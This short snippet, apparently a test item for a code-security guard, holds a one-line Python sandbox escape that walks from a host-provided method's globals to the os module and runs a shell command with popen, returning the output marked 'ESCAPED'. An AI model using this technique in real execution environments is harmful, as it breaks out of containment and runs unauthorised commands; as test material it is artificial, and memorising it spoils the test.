# guard: CODE_SECURITY
# bare: CODE_SECURITY
# what: the function below a bound method of what the host hands in
return "ESCAPED " + tools.call.__func__.__globals__["os"].popen("id").read()
